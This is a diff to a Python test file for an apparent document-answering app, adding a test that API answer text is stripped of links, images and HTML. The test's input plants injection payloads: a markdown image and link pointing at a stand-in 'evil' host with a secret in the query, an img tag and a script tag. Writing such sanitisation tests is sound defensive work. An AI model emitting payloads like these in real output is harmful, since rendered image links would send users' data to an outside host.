@@ -17,7 +17,7 @@ import pytest
 from backend.answering.answer import Answer
 from backend.answering.chat import Filters
 from backend.answering.events import Final, Token
-from backend.app.display import citation_labels, safe_markdown, trace_steps
+from backend.app.display import api_text, citation_labels, safe_markdown, trace_steps
 from backend.app.exports import (
     Export,
     answer_csv,
@@ -197,6 +197,17 @@ def test_model_output_is_rendered_as_text():
     assert "http://" not in out and "www." not in out  # no autolinks either
     assert "\\$5 million" in out and "x" in out and "docs" in out
     assert ":blue-background[Netflix 2017 · p.2]" in out  # the app's own citation label
+
+
+def test_api_answer_text_carries_no_links_images_or_html():
+    planted = (
+        'Margin was <5% ![x](http://evil/?q=secret) see [docs](http://evil/a) <img src="http://'
+        'evil/i.png"> <script>alert(1)</script> <!-- c --> a < b'
+    )
+    out = api_text(planted)
+    assert "](" not in out and "<img" not in out and "<script" not in out and "</" not in out
+    assert "<!--" not in out and "&lt;img" in out
+    assert "Margin was <5%" in out and "a < b" in out and "docs" in out
 
 
 def test_trace_as_steps(services):
